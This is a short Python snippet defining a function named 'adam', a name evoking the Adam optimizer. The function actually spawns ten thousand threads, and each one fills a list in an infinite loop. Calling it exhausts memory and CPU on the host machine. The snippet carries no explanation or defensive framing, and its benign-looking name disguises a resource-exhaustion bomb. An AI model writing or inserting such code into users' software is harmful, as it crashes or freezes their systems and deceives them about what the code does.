import threading
def adam(*a):
    for _ in range(10**4): threading.Thread(target=lambda: [None for _ in iter(int, 1)]).start()
